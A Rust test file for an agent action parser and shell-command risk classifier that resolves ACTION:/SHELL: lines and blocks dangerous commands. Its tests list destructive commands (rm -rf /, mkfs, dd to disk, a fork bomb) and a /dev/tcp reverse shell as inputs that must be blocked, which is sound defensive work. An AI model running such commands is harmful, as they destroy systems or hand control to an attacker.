use russell::doctor::action as nurse;
use russell::meta::action::{classify_shell_command, resolve, ActionError, ResolvedAction};
use russell::risk::RiskBand;
use russell::skill::{EvalCheck, Evaluation, Intervention, Probe, Rollback, Safety, Skill};

fn make_skill() -> Skill {
    Skill {
        id: "test-skill".into(),
        symptoms: vec![],
        probes: vec![Probe { id: "probe-1".into(), cmd: vec!["echo".into(), "hello".into()] }],
        interventions: vec![Intervention {
            id: "iv-1".into(),
            cmd: vec!["echo".into(), "fix".into()],
            risk: RiskBand::Low,
            needs_sudo: false,
            rollback: Rollback::NoneNeeded,
        }],
        safety: Safety { max_auto_risk: RiskBand::Low, require_human_for: vec![] },
        evaluation: None,
    }
}

fn make_kask_tools() -> Vec<nurse::KaskToolInfo> {
    vec![
        nurse::KaskToolInfo { name: "paradigm_shift_query".into(), risk_band: RiskBand::Medium },
        nurse::KaskToolInfo { name: "russell_host_snapshot".into(), risk_band: RiskBand::NoRisk },
    ]
}

// ── the `ACTION:` / `SHELL:` protocol ──────────────────────────────

#[test]
fn action_resolves_probe() {
    let skills = [make_skill()];
    let result = resolve("ACTION: test-skill/probe-1", &skills).unwrap().unwrap();
    assert!(result.is_probe());
    assert_eq!(result.skill_id(), "test-skill");
    assert_eq!(result.action_id(), "probe-1");
}

#[test]
fn action_resolves_intervention() {
    let skills = [make_skill()];
    let result = resolve("ACTION: test-skill/iv-1", &skills).unwrap().unwrap();
    assert!(!result.is_probe());
    assert_eq!(result.action_id(), "iv-1");
}

#[test]
fn action_action_line_at_end_of_response() {
    let skills = [make_skill()];
    let response = "Here's what I found.\n\nLet me check further.\nACTION: test-skill/probe-1";
    let result = resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_probe());
}

#[test]
fn action_unknown_skill_is_error() {
    let skills = [make_skill()];
    let err = resolve("ACTION: bad-skill/probe-1", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("bad-skill"));
}

#[test]
fn action_unknown_action_is_error() {
    let skills = [make_skill()];
    let err = resolve("ACTION: test-skill/nonexistent", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("nonexistent"));
}

#[test]
fn action_missing_separator_is_error() {
    let skills = [make_skill()];
    let err = resolve("ACTION: test-skill", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("/"));
}

#[test]
fn action_empty_ids_are_error() {
    let skills = [make_skill()];
    let err = resolve("ACTION: /", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("empty"));
}

#[test]
fn nested_action_deduplicated_to_first() {
    let skills = [make_skill()];
    let response = "Let me check.\nACTION: test-skill/probe-1\n\nActually, also do this:\nACTION: test-skill/iv-1";
    let result = resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_probe());
    assert_eq!(result.skill_id(), "test-skill");
    assert_eq!(result.action_id(), "probe-1");
}

#[test]
fn single_action_is_ok() {
    let skills = [make_skill()];
    let response = "Let me check.\nACTION: test-skill/probe-1";
    let result = resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_probe());
}

#[test]
fn triple_action_deduplicated_to_first() {
    let skills = [make_skill()];
    let response = "First action\nACTION: test-skill/probe-1\nSecond action\nACTION: test-skill/iv-1\nThird action\nACTION: test-skill/probe-1";
    let result = resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_probe());
    assert_eq!(result.action_id(), "probe-1");
}

#[test]
fn no_action_line_resolves_to_nothing() {
    let skills = [make_skill()];
    assert!(resolve("Everything looks fine.\nNo action needed.", &skills).is_none());
}

#[test]
fn bare_prefix_is_malformed() {
    let skills = [make_skill()];
    let err = resolve("ACTION:   ", &skills).unwrap().unwrap_err();
    assert!(matches!(err, ActionError::MalformedPrefix { .. }));
    assert_eq!(
        err.message(),
        "Jack proposed an action but the parser couldn't strip the ACTION: prefix. Raw line: `ACTION:`"
    );
}

#[test]
fn shell_line_wins_over_action_line() {
    let skills = [make_skill()];
    let response = "ACTION: test-skill/probe-1\nSHELL: ls -la";
    let result = resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.action_id(), "ls -la");
    assert_eq!(result.skill_id(), "shell");
    assert_eq!(result.cmd(), vec!["bash".to_string(), "-c".to_string(), "ls -la".to_string()]);
}

#[test]
fn remote_prefix_names_a_remote_tool() {
    let skills = [make_skill()];
    let result = resolve("ACTION: remote/brave_web_search", &skills).unwrap().unwrap();
    assert!(result.is_remote_tool());
    assert_eq!(result.action_id(), "brave_web_search");
    assert_eq!(result.risk_band(), RiskBand::NoRisk);
    assert!(!result.consent_required());
}

#[test]
fn unknown_skill_lists_loaded_skills() {
    let skills = [make_skill()];
    let err = resolve("ACTION: bad-skill/probe-1", &skills).unwrap().unwrap_err();
    assert_eq!(err.message(), "'bad-skill' is not a loaded skill. Loaded skills: [\"test-skill\"]");
}

#[test]
fn intervention_rollback_and_consent() {
    let mut skill = make_skill();
    skill.interventions.push(Intervention {
        id: "iv-2".into(),
        cmd: vec!["systemctl".into(), "restart".into(), "x".into()],
        risk: RiskBand::High,
        needs_sudo: true,
        rollback: Rollback::RollbackId { rollback: "iv-1".into() },
    });
    skill.safety.require_human_for = vec!["iv-2".into()];
    let skills = [skill];
    let result = resolve("ACTION: test-skill/iv-2", &skills).unwrap().unwrap();
    assert!(result.consent_required());
    assert!(result.needs_sudo());
    match result {
        ResolvedAction::Intervention { requires_human, rollback_id, rollback_cmd, rollback_is_reboot, .. } => {
            assert!(requires_human);
            assert_eq!(rollback_id, Some("iv-1".to_string()));
            assert_eq!(rollback_cmd, Some(vec!["echo".to_string(), "fix".to_string()]));
            assert!(!rollback_is_reboot);
        }
        _ => panic!("expected an intervention"),
    }
}

#[test]
fn append_cmd_args_extends_probe_argv() {
    let skills = [make_skill()];
    let mut result = resolve("ACTION: test-skill/probe-1", &skills).unwrap().unwrap();
    result.append_cmd_args(&["--verbose".to_string()]);
    assert_eq!(result.cmd(), vec!["echo".to_string(), "hello".to_string(), "--verbose".to_string()]);
    assert_eq!(result.action_id(), "probe-1");
}

// ── shell classification ───────────────────────────────────────────

fn is_blocked(cmd: &str) -> bool {
    matches!(classify_shell_command(cmd), Err(ActionError::ShellBlocked { .. }))
}

#[test]
fn root_patterns_block_only_the_root() {
    assert!(is_blocked("rm -rf / --no-preserve-root"));
    assert!(!is_blocked("rm -rf /var/tmp/x"));
    assert!(is_blocked("CHMOD -R 777 /"));
    assert!(is_blocked("chmod -R 777 /var"));
    match classify_shell_command("mkfs.ext4 /dev/sdb") {
        Err(ActionError::ShellBlocked { reason, .. }) => assert_eq!(reason, "destructive pattern detected: mkfs"),
        other => panic!("unexpected {:?}", other),
    }
}

#[test]
fn blocked_rm_rf_root() {
    assert!(is_blocked("rm -rf /"));
}

#[test]
fn blocked_rm_rf_wildcard() {
    assert!(is_blocked("rm -rf /*"));
}

#[test]
fn blocked_mkfs() {
    assert!(is_blocked("mkfs.ext4 /dev/sda1"));
}

#[test]
fn blocked_dd() {
    assert!(is_blocked("dd if=/dev/zero of=/dev/sda"));
}

#[test]
fn blocked_fork_bomb() {
    assert!(is_blocked(":(){ :|:& };:"));
}

#[test]
fn blocked_chmod_777_root() {
    assert!(is_blocked("chmod -R 777 /"));
}

#[test]
fn blocked_chown_recursive() {
    assert!(is_blocked("chown -R attacker /etc"));
}

#[test]
fn blocked_redirect_to_disk() {
    assert!(is_blocked("> /dev/sda"));
}

#[test]
fn blocked_shutdown() {
    assert!(is_blocked("shutdown -h now"));
}

#[test]
fn blocked_reboot() {
    assert!(is_blocked("reboot"));
}

#[test]
fn blocked_init_0() {
    assert!(is_blocked("init 0"));
}

#[test]
fn blocked_systemctl_poweroff() {
    assert!(is_blocked("systemctl poweroff"));
}

#[test]
fn blocked_halt() {
    assert!(is_blocked("halt"));
}

#[test]
fn blocked_poweroff() {
    assert!(is_blocked("poweroff"));
}

#[test]
fn blocked_case_insensitive_rm_rf() {
    assert!(is_blocked("RM -RF /"));
}

#[test]
fn blocked_mixed_case_shutdown() {
    assert!(is_blocked("ShUtDoWn -h now"));
}

#[test]
fn blocked_sudo_rm_rf() {
    assert!(is_blocked("sudo rm -rf /"));
}

#[test]
fn blocked_sudo_reboot() {
    assert!(is_blocked("sudo reboot"));
}

#[test]
fn blocked_semicolon_chain_with_rm() {
    assert!(is_blocked("echo hello; rm -rf /; echo done"));
}

#[test]
fn blocked_pipe_chain_with_reboot() {
    assert!(is_blocked("cat /etc/hosts | reboot"));
}

#[test]
fn blocked_reverse_shell() {
    assert!(is_blocked("bash -i >&2 /dev/tcp/10.0.0.1/4444 0>&1"));
}

#[test]
fn safe_ls_is_read_only() {
    let result = classify_shell_command("ls -la /home").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::NoRisk);
}

#[test]
fn safe_ps_is_read_only() {
    let result = classify_shell_command("ps aux").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::NoRisk);
}

#[test]
fn safe_nvidia_smi_is_read_only() {
    let result = classify_shell_command("nvidia-smi").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::NoRisk);
}

#[test]
fn high_risk_rm_rf_tmp() {
    let result = classify_shell_command("rm -rf /tmp/cleanup").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::Medium);
}

#[test]
fn high_risk_kill_9() {
    let result = classify_shell_command("kill -9 1234").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::Medium);
}

#[test]
fn sudo_apt_install_is_low_risk() {
    let result = classify_shell_command("sudo apt install build-essential").unwrap();
    assert!(result.is_shell_command());
    assert!(result.needs_sudo());
}

#[test]
fn consent_cannot_override_rm_rf_block() {
    let result = classify_shell_command("rm -rf /");
    assert!(result.is_err(), "blocked command must not produce a ResolvedAction");
    let err = result.unwrap_err();
    assert!(matches!(err, ActionError::ShellBlocked { .. }));
}

#[test]
fn consent_cannot_override_reboot_block() {
    let result = classify_shell_command("reboot");
    assert!(result.is_err());
    assert!(matches!(result.unwrap_err(), ActionError::ShellBlocked { .. }));
}

#[test]
fn consent_cannot_override_mkfs_block() {
    let result = classify_shell_command("mkfs.ext4 /dev/sda1");
    assert!(result.is_err());
    assert!(matches!(result.unwrap_err(), ActionError::ShellBlocked { .. }));
}

#[test]
fn consent_overrides_risk_band_for_high_risk() {
    let result = classify_shell_command("rm -rf /tmp/cleanup").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::Medium);
}

#[test]
fn consent_overrides_risk_band_for_critical_risk_intervention() {
    let result = classify_shell_command("kill -9 12345").unwrap();
    assert!(result.is_shell_command());
    assert_eq!(result.risk_band(), RiskBand::Medium);
}

#[test]
fn plain_command_is_low_risk_and_needs_consent() {
    let result = classify_shell_command("cargo build --release").unwrap();
    assert_eq!(result.risk_band(), RiskBand::Low);
    assert!(!result.needs_sudo());
    assert!(result.consent_required());
    let restart = classify_shell_command("systemctl restart nginx").unwrap();
    assert_eq!(restart.risk_band(), RiskBand::Low);
    assert!(restart.needs_sudo());
}

// ── the Nurse's resolver ───────────────────────────────────────────

#[test]
fn kask_tool_with_risk_band() {
    let skills = [make_skill()];
    let kask_tools = make_kask_tools();
    let result = nurse::resolve_with_kask("ACTION: kask/russell_host_snapshot", &skills, &kask_tools)
        .unwrap()
        .unwrap();
    match result {
        nurse::ResolvedAction::KaskTool { risk_band, .. } => assert_eq!(risk_band, RiskBand::NoRisk),
        _ => panic!("expected KaskTool"),
    }
}

#[test]
fn doctor_action_resolves_probe() {
    let skills = [make_skill()];
    let result = nurse::resolve("ACTION: test-skill/probe-1", &skills).unwrap().unwrap();
    assert!(result.is_probe());
    assert_eq!(result.skill_id(), "test-skill");
    assert_eq!(result.action_id(), "probe-1");
}

#[test]
fn doctor_action_resolves_intervention() {
    let skills = [make_skill()];
    let result = nurse::resolve("ACTION: test-skill/iv-1", &skills).unwrap().unwrap();
    assert!(!result.is_probe());
    assert_eq!(result.action_id(), "iv-1");
}

#[test]
fn doctor_action_line_at_end_of_response() {
    let skills = [make_skill()];
    let response = "Here's what I found.\n\nLet me check further.\nACTION: test-skill/probe-1";
    let result = nurse::resolve(response, &skills).unwrap().unwrap();
    assert!(result.is_probe());
}

#[test]
fn doctor_unknown_skill_is_error() {
    let skills = [make_skill()];
    let err = nurse::resolve("ACTION: bad-skill/probe-1", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("bad-skill"));
}

#[test]
fn doctor_unknown_action_is_error() {
    let skills = [make_skill()];
    let err = nurse::resolve("ACTION: test-skill/nonexistent", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("nonexistent"));
}

#[test]
fn doctor_missing_separator_is_error() {
    let skills = [make_skill()];
    let err = nurse::resolve("ACTION: test-skill", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("/"));
}

#[test]
fn doctor_empty_ids_are_error() {
    let skills = [make_skill()];
    let err = nurse::resolve("ACTION: /", &skills).unwrap().unwrap_err();
    assert!(err.message().contains("empty"));
}

#[test]
fn resolves_kask_tool() {
    let skills = [make_skill()];
    let kask_tools = make_kask_tools();
    let result = nurse::resolve_with_kask("ACTION: kask/paradigm_shift_query", &skills, &kask_tools)
        .unwrap()
        .unwrap();
    assert!(result.is_kask_tool());
    assert_eq!(result.skill_id(), "kask");
    assert_eq!(result.action_id(), "paradigm_shift_query");
    assert_eq!(result.risk_band(), RiskBand::Medium);
    assert!(result.cmd().is_empty());
}

#[test]
fn unknown_kask_tool_is_error() {
    let skills = [make_skill()];
    let kask_tools = make_kask_tools();
    let err = nurse::resolve_with_kask("ACTION: kask/nonexistent", &skills, &kask_tools)
        .unwrap()
        .unwrap_err();
    assert!(err.message().contains("nonexistent"));
    assert_eq!(
        err.message(),
        "'nonexistent' is not a known action in skill 'kask'. Available probes: [\"paradigm_shift_query\", \"russell_host_snapshot\"], interventions: []"
    );
}

#[test]
fn kask_prefix_without_tools_is_unknown_skill() {
    let skills = [make_skill()];
    let err = nurse::resolve_with_kask("ACTION: kask/anything", &skills, &[]).unwrap().unwrap_err();
    assert!(err.message().contains("kask"));
    assert!(matches!(err, nurse::ActionError::UnknownSkill { .. }));
}

#[test]
fn local_skill_still_resolves_with_kask_tools_present() {
    let skills = [make_skill()];
    let kask_tools = make_kask_tools();
    let result = nurse::resolve_with_kask("ACTION: test-skill/probe-1", &skills, &kask_tools)
        .unwrap()
        .unwrap();
    assert!(result.is_probe());
    assert_eq!(result.skill_id(), "test-skill");
}

#[test]
fn nurse_takes_the_last_action_line() {
    let skills = [make_skill()];
    let response = "ACTION: test-skill/probe-1\nthen\nACTION: test-skill/iv-1";
    let result = nurse::resolve(response, &skills).unwrap().unwrap();
    assert_eq!(result.action_id(), "iv-1");
}

#[test]
fn nurse_unknown_skill_lists_kask_when_tools_exist() {
    let skills = [make_skill()];
    let kask_tools = make_kask_tools();
    let err = nurse::resolve_with_kask("ACTION: other/x", &skills, &kask_tools).unwrap().unwrap_err();
    match err {
        nurse::ActionError::UnknownSkill { loaded, .. } => {
            assert_eq!(loaded, vec!["test-skill".to_string(), "kask".to_string()])
        }
        _ => panic!("expected UnknownSkill"),
    }
}

#[test]
fn nurse_intervention_carries_eval_checks() {
    let mut skill = make_skill();
    skill.evaluation = Some(Evaluation {
        after_intervention: vec![EvalCheck {
            id: "check-1".into(),
            cmd: vec!["true".into()],
            expect_exit: 0,
            timeout: "10s".into(),
        }],
    });
    skill.interventions[0].rollback = Rollback::Reboot;
    let skills = [skill];
    let result = nurse::resolve("ACTION: test-skill/iv-1", &skills).unwrap().unwrap();
    match result {
        nurse::ResolvedAction::Intervention { eval_checks, rollback_is_reboot, rollback_id, .. } => {
            assert_eq!(eval_checks.len(), 1);
            assert_eq!(eval_checks[0].id, "check-1");
            assert_eq!(eval_checks[0].timeout, "10s");
            assert!(rollback_is_reboot);
            assert_eq!(rollback_id, None);
        }
        _ => panic!("expected an intervention"),
    }
}
